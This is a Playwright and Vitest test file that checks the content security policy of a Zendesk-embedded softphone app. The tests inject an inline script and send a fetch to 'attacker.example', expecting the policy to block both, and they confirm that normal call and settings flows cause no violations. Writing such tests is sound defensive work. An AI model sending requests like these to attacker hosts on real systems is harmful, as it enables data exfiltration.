import type { Browser, BrowserContext, Frame } from 'playwright';
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import type { Sandbox } from '../src/start-sandbox.js';
import { administrator, janesNumber } from './demo-desk.js';
import { launchBrowser, openDeskIn, openSandbox, resetSandbox, type Desk } from './open-desk.js';
import { accept, eventually, finish, takeACall } from './take-a-call.js';

let browser: Browser;
let sandbox: Sandbox;
let context: BrowserContext;
let desk: Desk;
let violations: string[];

beforeAll(async () => {
  browser = await launchBrowser();
  sandbox = await openSandbox({ crossSite: true });
});
beforeEach(async () => {
  await resetSandbox(sandbox);
  await sandbox.zendesk.driver.session({ userId: administrator });
  violations = [];
  context = await browser.newContext({ viewport: { width: 1280, height: 900 }, acceptDownloads: true });
  await context.exposeBinding('tellViolation', (_source, text: string) => {
    violations.push(text);
  });
  await context.addInitScript(() => {
    document.addEventListener('securitypolicyviolation', (event) => {
      const { documentURI, effectiveDirective, blockedURI, sourceFile, lineNumber } = event;
      const page = new URL(documentURI).pathname;
      const text = `${page}: ${effectiveDirective} ${blockedURI} (${sourceFile}:${String(lineNumber)})`;
      (window as unknown as { tellViolation: (text: string) => void }).tellViolation(text);
    });
  });
  desk = await openDeskIn(context, sandbox);
});
afterEach(async () => {
  await context.close();
});
afterAll(async () => {
  await browser.close();
  await sandbox.close();
});

const appFrames = (): Frame[] =>
  desk.page.frames().filter((frame) => frame.url().startsWith(sandbox.addresses.app));

const settingsPage = () => desk.page.frameLocator('iframe[src*="settings.html"]');

describe('the content security policy of the app', () => {
  it('stands in every page of the app, and stops a script that is put into one', async () => {
    await eventually(() => {
      expect(appFrames().length).toBeGreaterThanOrEqual(2);
    });
    for (const frame of appFrames()) {
      const before = violations.length;
      const ran = await frame.evaluate(() => {
        const script = document.createElement('script');
        script.textContent = 'window.wasReached = true';
        document.head.append(script);
        return 'wasReached' in window;
      });
      expect([frame.url(), ran]).toEqual([frame.url(), false]);
      await eventually(() => {
        expect(violations.slice(before)).toEqual([expect.stringMatching(/script-src-elem inline/)]);
      });
    }
  });

  it('lets no page of the app send anything to a stranger', async () => {
    for (const frame of appFrames()) {
      const wasSent = await frame.evaluate(() =>
        fetch('https://attacker.example/', { mode: 'no-cors' }).then(
          () => true,
          () => false,
        ),
      );
      expect([frame.url(), wasSent]).toEqual([frame.url(), false]);
    }
    await eventually(() => {
      expect(violations.filter((text) => /connect-src/.test(text))).toHaveLength(appFrames().length);
    });
  });

  it('is kept through whole calls: assigned by itself, and by the agent; refused, and tried again', async () => {
    await takeACall(desk, { customerNumber: janesNumber });
    const { contactId } = await sandbox.connect.driver.ring({
      customerNumber: '+12025550177',
      queue: 'Support',
      attributes: { ticket_assignment: 'agent', pause_recording: 'true' },
    });
    await desk.softphone.getByRole('heading', { name: 'Choose the ticket when you answer' }).waitFor();
    await accept(desk);
    await sandbox.zendesk.driver.faults({
      match: { method: 'POST', path: '/api/v2/channels/voice/tickets' },
      status: 422,
      times: 1,
    });
    await desk.softphone.getByRole('button', { name: 'Create ticket' }).click();
    await desk.softphone.getByRole('button', { name: '1 unsent' }).click();
    await desk.softphone.getByRole('button', { name: 'Export it' }).click();
    await desk.softphone.locator('patchcord-unsent-panel').getByRole('button', { name: 'Try again' }).click();
    await desk.softphone
      .getByText(/^On #\d+\./)
      .first()
      .waitFor();
    await sandbox.connect.driver.customerHangup(contactId);
    await finish(desk);
    expect(violations).toEqual([]);
  });

  it('is kept by the timeline and the settings', async () => {
    await takeACall(desk, { customerNumber: janesNumber });
    await desk.softphone.getByRole('button', { name: 'Timeline' }).click();
    // The softphone's pane would cover the page.
    const pane = desk.page.getByRole('button', { name: 'Patchcord', exact: true });
    if ((await pane.getAttribute('aria-expanded')) === 'true') await pane.click();
    const page = settingsPage();
    await page.getByText('call.recorded').first().waitFor();
    await page.getByRole('button', { name: 'Export JSON' }).click();
    const downloading = desk.page.waitForEvent('download');
    await page.getByRole('link', { name: 'Download file' }).click();
    await downloading;
    await page.getByRole('button', { name: 'Close' }).click();
    const tabs = page.getByRole('tab');
    await tabs.nth(1).waitFor();
    for (const tab of await tabs.all()) await tab.click();
    expect(await tabs.count()).toBeGreaterThanOrEqual(4);
    expect(violations).toEqual([]);
  });
});
